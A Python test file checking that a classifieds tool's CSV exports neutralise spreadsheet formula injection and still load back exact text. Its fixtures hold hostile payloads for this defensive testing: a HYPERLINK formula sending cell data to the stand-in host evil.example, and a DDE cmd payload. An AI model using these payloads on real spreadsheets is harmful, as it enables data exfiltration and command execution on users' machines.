"""Hostile text for spreadsheets: no CSV cell starts a formula, in either dialect, and
``classifieds.load`` still gives back the exact text, whatever a spreadsheet did to the BOM."""

from __future__ import annotations

import csv
import operator
import shutil
from pathlib import Path
from typing import Any, get_args

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import DATA
from hypothesis import given, settings
from hypothesis import strategies as st

import classifieds
from classifieds.store.columns import LISTING_COLUMNS
from classifieds.store.dataset import CsvDialect, write_listings

DIALECTS: tuple[CsvDialect, ...] = get_args(CsvDialect)
DELIMITER = {"default": ",", "excel-fr": ";"}
ENCODING = {"default": "utf-8", "excel-fr": "utf-8-sig"}
TEXT_COLUMNS = tuple(c for c in LISTING_COLUMNS if c.type == pa.string())
# What LibreOffice and Excel run as a formula when a cell starts with it (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def base_row(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A listing row as an export writes it: the first ad of the basic page."""
    out = tmp_path_factory.mktemp("basic")
    classifieds.build([DATA / "basic.txt"], out)
    row: dict[str, Any] = pq.read_table(out / "listings.parquet").to_pylist()[0]
    return row


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder without a manifest, rewritten by each example."""
    return tmp_path_factory.mktemp("scratch")


def csv_cells(path: Path, dialect: CsvDialect) -> list[dict[str, str]]:
    """Return the rows of a CSV file as a spreadsheet reads its cells: unquoted, as text."""
    with open(path, encoding=ENCODING[dialect], newline="") as file:
        return list(csv.DictReader(file, delimiter=DELIMITER[dialect]))


# (id, text in the dataset, the cell a spreadsheet reads in the CSV)
CELLS = [
    (
        "hyperlink",
        '=HYPERLINK("http://evil.example/?d="&A2,"Voir")',
        '\'=HYPERLINK("http://evil.example/?d="&A2,"Voir")',
    ),
    ("plus", "+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("minus-title", "-50% sur tout", "'-50% sur tout"),
    ("price-raw-dash", "-", "'-"),
    ("at", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage-return", "\r=1+1", "'\r=1+1"),
    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("apostrophe", "'quoted", "''quoted"),
    ("two-apostrophes", "''", "'''"),
    ("lone-apostrophe", "'", "''"),
    ("apostrophe-formula", "'=1+1", "''=1+1"),
    ("two-apostrophes-formula", "''=1+1", "'''=1+1"),
    ("apostrophe-inside", "L'Aigle", "L'Aigle"),
    ("formula-inside", "Prix = 100 + frais", "Prix = 100 + frais"),
    ("leading-space", " =1+1", " =1+1"),
    ("separators", 'a,b;c "d"', 'a,b;c "d"'),
    ("line-break", "a\nb\r\nc", "a\nb\r\nc"),
    ("empty", "", ""),
    ("plain", "Poussette", "Poussette"),
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(("text", "cell"), [c[1:] for c in CELLS], ids=[c[0] for c in CELLS])
def test_text_cells_are_guarded_and_load_restores_them(
    base_row: dict[str, Any], scratch: Path, text: str, cell: str, dialect: CsvDialect
) -> None:
    row = base_row | {"title": text, "description": text, "town": text, "price_raw": text}
    write_listings([row], scratch, dialect)
    (written,) = csv_cells(scratch / "listings.csv", dialect)
    assert [written[name] for name in ("title", "description", "town", "price_raw")] == [cell] * 4
    loaded = classifieds.load(scratch / "listings.csv").loc[0]
    assert [loaded[name] for name in ("title", "description", "town", "price_raw")] == [text] * 4


@pytest.mark.parametrize("dialect", DIALECTS)
def test_numbers_are_never_guarded(
    base_row: dict[str, Any], scratch: Path, dialect: CsvDialect
) -> None:
    row = base_row | {"price_eur": -5.5, "surface_m2": None, "rooms": -1, "year": -3}
    write_listings([row], scratch, dialect)
    (written,) = csv_cells(scratch / "listings.csv", dialect)
    decimal = "," if dialect == "excel-fr" else "."
    assert (written["price_eur"], written["rooms"], written["year"]) == (
        f"-5{decimal}5",
        "-1",
        "-3",
    )
    loaded = classifieds.load(scratch / "listings.csv").loc[0]
    assert (loaded.price_eur, loaded.rooms, loaded.year) == (-5.5, -1, -3)


# Text that starts with what the guard and the quoting care about, then anything.
PREFIXES = ("", "'", "''", "'''", "=", "'=", "''=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";")
TEXTS = st.builds(operator.add, st.sampled_from(PREFIXES), st.text(max_size=12))
ROWS = st.fixed_dictionaries(
    {c.name: st.none() | TEXTS if c.nullable else TEXTS for c in TEXT_COLUMNS}
)


@settings(max_examples=100, deadline=None)
@given(texts=st.lists(ROWS, max_size=4), dialect=st.sampled_from(DIALECTS))
def test_csv_loads_to_the_parquet_frame_and_starts_no_formula(
    base_row: dict[str, Any], scratch: Path, texts: list[dict[str, str | None]], dialect: CsvDialect
) -> None:
    write_listings([base_row | text for text in texts], scratch, dialect)
    from_parquet = classifieds.load(scratch / "listings.parquet")
    pd.testing.assert_frame_equal(classifieds.load(scratch / "listings.csv"), from_parquet)
    assert (
        pq.read_table(
            scratch / "listings.parquet", columns=[c.name for c in TEXT_COLUMNS]
        ).to_pylist()
        == texts
    )
    for written in csv_cells(scratch / "listings.csv", dialect):
        assert not [c.name for c in TEXT_COLUMNS if written[c.name].startswith(FORMULA_START)]


def test_default_export_guards_a_formula_title(tmp_path: Path) -> None:
    """The issue: LibreOffice ran this title of the default dialect's CSV as a formula."""
    title = '=HYPERLINK("http://evil.example","Voir")'
    page = tmp_path / "page.txt"
    page.write_text(
        f"Petites Annonces\nBonnes affaires\n{title}\n{title} Caen (14000) 12€ Découvrir\n",
        encoding="utf-8",
    )
    classifieds.build([page], tmp_path / "data")
    text = (tmp_path / "data" / "listings.csv").read_text(encoding="utf-8")
    assert ',"\'=HYPERLINK(""http://evil.example"",""Voir"")",' in text
    assert classifieds.load(tmp_path / "data" / "listings.csv").loc[0, "title"] == title


@pytest.mark.parametrize(
    "name", ["=1+1.txt", "-x.txt", "'quoted.txt", "a\rb.txt", "a\nb.txt"], ids=repr
)
def test_a_hostile_file_name_comes_back_from_the_csv(tmp_path: Path, name: str) -> None:
    """``first_source`` is the input's name: a crawl can name its files anything."""
    (tmp_path / "in").mkdir()
    shutil.copy(DATA / "basic.txt", tmp_path / "in" / name)
    classifieds.build([tmp_path / "in"], tmp_path / "data")
    from_parquet = classifieds.load(tmp_path / "data" / "listings.parquet")
    assert str(from_parquet.loc[0, "first_source"]).endswith(name)
    pd.testing.assert_frame_equal(
        classifieds.load(tmp_path / "data" / "listings.csv"), from_parquet
    )


def saved_again(path: Path, tmp_path: Path, edit: Any) -> Path:
    """Return a copy of a CSV as a spreadsheet saves it elsewhere (no manifest beside it)."""
    copy = tmp_path / "saved" / "listings.csv"
    copy.parent.mkdir()
    copy.write_bytes(edit(path.read_bytes()))
    return copy


@pytest.mark.parametrize(
    ("dialect", "edit"),
    [
        ("excel-fr", lambda raw: raw.removeprefix(b"\xef\xbb\xbf")),
        ("default", lambda raw: b"\xef\xbb\xbf" + raw),
    ],
    ids=["excel-fr-without-bom", "default-with-bom"],
)
def test_the_dialect_is_told_by_the_header_not_the_bom(
    tmp_path: Path, dialect: CsvDialect, edit: Any
) -> None:
    page = tmp_path / "page.txt"
    page.write_text(
        "Petites Annonces\nBonnes affaires\n=1+1\n=1+1 Caen (14000) 12,50€ Découvrir\n"
        "Immobilier\n'Maison\n'Maison Saint-Lô (50000) 1 500,75€ Découvrir\n",
        encoding="utf-8",
    )
    classifieds.build([page], tmp_path / "data", csv_dialect=dialect)
    original = tmp_path / "data" / "listings.csv"
    copy = saved_again(original, tmp_path, edit)
    assert copy.read_bytes() != original.read_bytes()
    from_parquet = classifieds.load(tmp_path / "data" / "listings.parquet")
    assert sorted(from_parquet.title) == ["'Maison", "=1+1"]
    assert sorted(from_parquet.price_eur) == [12.5, 1500.75]
    pd.testing.assert_frame_equal(classifieds.load(copy), from_parquet)
